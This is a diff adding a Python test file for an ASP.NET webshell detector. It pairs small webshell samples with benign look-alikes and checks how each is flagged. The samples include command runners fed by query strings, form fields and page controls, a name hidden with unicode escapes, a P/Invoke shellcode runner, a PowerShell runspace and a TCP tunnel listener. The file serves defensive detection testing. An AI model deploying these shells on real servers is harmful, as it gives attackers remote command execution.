@@ -1,0 +1,270 @@
+"""A page's `<script runat=server>` members and its `<% %>` statements are one class: constants,
+fields, methods and what they carry are shared between them. Small shells written for these
+tests from published descriptions of split pages (the command runner in a script block, the
+request read in an inline block), with benign look-alikes that must stay below medium."""
+
+from __future__ import annotations
+
+from exhunt.codeanalysis import CodeReport, analyze_code
+from exhunt.rules import rule
+
+
+def run(name: str, code: str) -> CodeReport:
+    return analyze_code(code.encode(), name)
+
+
+def chain_of(report: CodeReport, rule_id: str) -> str:
+    return next(c.chain for c in report.capabilities if c.rule_id == rule_id)
+
+
+def medium_or_above(report: CodeReport) -> list[str]:
+    return [c.rule_id for c in report.capabilities if rule(c.rule_id).severity.rank >= 2]
+
+
+SPLIT_RUNNER = """<%@ Page Language="C#" %>
+<script runat="server">
+string Run(string line) {
+    var psi = new System.Diagnostics.ProcessStartInfo(Shell, "/c " + line);
+    psi.UseShellExecute = false;
+    psi.RedirectStandardOutput = true;
+    return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
+}
+const string Shell = "c" + "md" + ".exe";
+</script>
+<html><body><pre>
+<%= Run(Request.QueryString["q"]) %>
+</pre></body></html>"""
+
+
+def test_statement_call_reaches_a_method_of_the_script_block() -> None:
+    report = run("split.aspx", SPLIT_RUNNER)
+    chain = chain_of(report, "EXH-WS-CODE-PROCESS")
+    assert "query parameter 'q'" in chain
+    assert "runs it as a command" in chain
+    assert "cmd.exe" in report.folded  # the constant of the members, folded where it is used
+
+
+FIELD_CARRIER = """<%@ Page Language="C#" %>
+<script runat="server">
+string target;
+void Page_Load(object sender, EventArgs e) {
+    if (target != null) { System.IO.File.Delete(target); }
+}
+</script>
+<% target = Request.Form["f"]; %>"""
+
+
+def test_field_set_in_a_statement_is_read_by_a_member() -> None:
+    report = run("field.aspx", FIELD_CARRIER)
+    chain = chain_of(report, "EXH-WS-CODE-FILE-MANAGE")
+    assert "form field 'f'" in chain
+
+
+BENIGN_SPLIT = """<%@ Page Language="C#" %>
+<script runat="server">
+string Tool = "C:\\\\Program Files\\\\Report\\\\render.exe";
+string Render(string title) {
+    System.Diagnostics.Process.Start(Tool, "--nightly");
+    return Server.HtmlEncode(title);
+}
+</script>
+<h1><%= Render(Request.QueryString["title"]) %></h1>"""
+
+
+def test_benign_split_page_with_a_fixed_tool_stays_below_medium() -> None:
+    # The request reaches the method, but not the process: its arguments are fixed.
+    assert medium_or_above(run("report.aspx", BENIGN_SPLIT)) == []
+
+
+# ----------------------------------------------------------------------------- Windows API directly
+
+RUNNER = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Runtime.InteropServices" %>
+<script runat="server">
+[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr n, int type, int protect);
+[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr attrs, UIntPtr stack, IntPtr start, IntPtr p, int flags, IntPtr id);
+void Page_Load(object s, EventArgs e) {
+    byte[] blob = new byte[] { 0x90, 0x90, 0xc3 };
+    IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)blob.Length, 0x3000, 0x40);
+    Marshal.Copy(blob, 0, mem, blob.Length);
+    CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, IntPtr.Zero);
+}
+</script>"""
+
+
+def test_shellcode_runner_declaring_windows_functions() -> None:
+    report = run("runner.aspx", RUNNER)
+    chain = chain_of(report, "EXH-WS-CODE-NATIVE-CODE")
+    assert "declares VirtualAlloc by P/Invoke (with CreateThread)" in chain
+    assert "runs code through the Windows API" in chain
+    assert "EXH-WS-CODE-NATIVE-CODE" in medium_or_above(report)
+
+
+VB_REVERSE = """<%@ Page Language="VB" %>
+<script runat="server">
+Declare Function WSASocket Lib "ws2_32.dll" (ByVal af As Integer, ByVal t As Integer, ByVal p As Integer, ByVal i As IntPtr, ByVal g As Integer, ByVal f As Integer) As IntPtr
+Sub Page_Load(sender As Object, e As EventArgs)
+    Dim s As IntPtr = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0)
+End Sub
+</script>"""
+
+
+def test_vb_declare_of_a_socket_for_a_native_shell() -> None:
+    chain = chain_of(run("rev.aspx", VB_REVERSE), "EXH-WS-CODE-NATIVE-CODE")
+    assert "declares WSASocket by P/Invoke" in chain
+
+
+BENIGN_NATIVE = """<%@ Page Language="C#" %>
+<script runat="server">
+[System.Runtime.InteropServices.DllImport("kernel32")]
+static extern bool GetDiskFreeSpaceEx(string dir, out ulong free, out ulong total, out ulong totalFree);
+void CreateThread(string name) { Application["worker"] = name; }
+void Page_Load(object s, EventArgs e) {
+    ulong free, total, tf;
+    GetDiskFreeSpaceEx(Server.MapPath("~/"), out free, out total, out tf);
+    CreateThread("report");
+}
+</script>"""
+
+
+def test_disk_space_by_p_invoke_and_a_method_named_like_the_api_are_not_reported() -> None:
+    report = run("status.aspx", BENIGN_NATIVE)
+    assert medium_or_above(report) == []
+    assert all(c.rule_id != "EXH-WS-CODE-NATIVE-CODE" for c in report.capabilities)
+
+
+# ----------------------------------------------------------------------------- unicode-escaped names
+
+ESCAPED = """<%@ Page Language="C#" %>
+<% System.Diagnostics.Process.Start("cmd.exe", "/c " + \\u0052\\u0065quest.\\u0046orm["\\u0078"]); %>"""
+
+
+def test_names_spelled_with_unicode_escapes_are_read_as_the_compiler_reads_them() -> None:
+    report = run("esc.aspx", ESCAPED)
+    assert "form field 'x'" in chain_of(report, "EXH-WS-CODE-PROCESS")
+    assert chain_of(report, "EXH-WS-CODE-HIDDEN-NAME") == "spells 'Request' with unicode escapes"
+    assert "Request (unicode escapes)" in report.folded
+
+
+BENIGN_ESCAPES = """<%@ Page Language="C#" %>
+<% string title = "Caf\\u00e9 \\u2014 men\\u00fc"; Response.Write(Server.HtmlEncode(title)); %>"""
+
+
+def test_escaped_accents_in_a_string_are_left_alone() -> None:
+    report = run("menu.aspx", BENIGN_ESCAPES)
+    assert medium_or_above(report) == []
+    assert not any("unicode escapes" in f for f in report.folded)
+
+
+# ----------------------------------------------------------------------------- PowerShell, listeners, controls
+
+POWERSHELL = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Management.Automation.Runspaces" %>
+<script runat="server">
+static string Ps(string script) {
+    Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open();
+    Pipeline pipe = rs.CreatePipeline();
+    pipe.Commands.AddScript(script);
+    return pipe.Invoke().Count.ToString();
+}
+void Go(object s, EventArgs e) { Result.Text = Ps(Script.Text); }
+</script>
+<form runat="server">
+<asp:TextBox ID="Script" runat="server" ToolTip="<type a command>" TextMode="MultiLine" />
+<asp:Button ID="Run" runat="server" OnClick="Go" Text="Run" /><asp:Label ID="Result" runat="server" />
+</form>"""
+
+
+def test_powershell_script_from_a_page_control() -> None:
+    # The control's ToolTip holds `<` and `>`: its declaration is still read.
+    chain = chain_of(run("ps.aspx", POWERSHELL), "EXH-WS-CODE-PROCESS")
+    assert "page control 'script'" in chain
+    assert "runs it as a command (.AddScript)" in chain
+
+
+BENIGN_POWERSHELL = """<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+    var ps = System.Management.Automation.PowerShell.Create();
+    ps.AddScript("Get-Service W3SVC | Select-Object Status");
+    Status.Text = ps.Invoke()[0].ToString();
+}
+</script><asp:Label ID="Status" runat="server" />"""
+
+
+def test_fixed_powershell_status_script_is_not_reported() -> None:
+    assert medium_or_above(run("status.aspx", BENIGN_POWERSHELL)) == []
+
+
+LISTENER = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+    int port = int.Parse(Request.QueryString.Get("port"));
+    var l = new TcpListener(System.Net.IPAddress.Loopback, port);
+    l.Start();
+    Session["c"] = l.AcceptSocket();
+    Socket c = (Socket)Session["c"];
+    c.Send(Request.BinaryRead(Request.TotalBytes));
+}
+</script>"""
+
+
+def test_tunnel_listening_on_a_port_the_request_names() -> None:
+    report = run("listen.aspx", LISTENER)
+    chains = [c.chain for c in report.capabilities if c.rule_id == "EXH-WS-CODE-TUNNEL"]
+    assert any("query parameter 'port'" in c and "(new TcpListener)" in c for c in chains)
+    assert any("the request body" in c and "(Socket.Send)" in c for c in chains)
+
+
+BENIGN_SOCKET = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+    var c = new TcpClient("mail.example.org", 25);
+    Socket sock = c.Client;
+    sock.Send(System.Text.Encoding.ASCII.GetBytes("NOOP\\r\\n"));
+    Health.Text = c.Connected ? "up" : "down";
+}
+</script><asp:Label ID="Health" runat="server" />"""
+
+
+def test_fixed_health_check_socket_is_not_reported() -> None:
+    assert medium_or_above(run("health.aspx", BENIGN_SOCKET)) == []
+
+
+# ----------------------------------------------------------------------------- code-behind controls
+
+CODE_BEHIND = """using System;
+using System.Diagnostics;
+public partial class Console : System.Web.UI.Page {
+    protected global::System.Web.UI.WebControls.TextBox txtCmd;
+    protected System.Web.UI.WebControls.Label lblOut;
+    protected void Run_Click(object sender, EventArgs e) {
+        var psi = new ProcessStartInfo("cmd.exe", "/c " + txtCmd.Text) { RedirectStandardOutput = true, UseShellExecute = false };
+        lblOut.Text = Process.Start(psi).StandardOutput.ReadToEnd();
+    }
+}"""
+
+
+def test_code_behind_knows_the_input_controls_it_declares() -> None:
+    chain = chain_of(run("console.aspx.cs", CODE_BEHIND), "EXH-WS-CODE-PROCESS")
+    assert "page control 'txtcmd' (TextBox.text)" in chain
+
+
+BENIGN_CODE_BEHIND = """Imports System.Data.SqlClient
+Partial Class Search
+    Inherits System.Web.UI.Page
+    Protected WithEvents txtQuery As System.Web.UI.WebControls.TextBox
+    Protected Sub Go_Click(sender As Object, e As EventArgs)
+        Using cn As New SqlConnection(ConfigurationManager.ConnectionStrings("main").ConnectionString)
+            Dim cmd As New SqlCommand("SELECT Title FROM Docs WHERE Title LIKE @q", cn)
+            cmd.Parameters.AddWithValue("@q", txtQuery.Text & "%")
+            cn.Open()
+        End Using
+    End Sub
+End Class"""
+
+
+def test_code_behind_search_with_a_configured_connection_stays_below_medium() -> None:
+    assert medium_or_above(run("search.aspx.vb", BENIGN_CODE_BEHIND)) == []
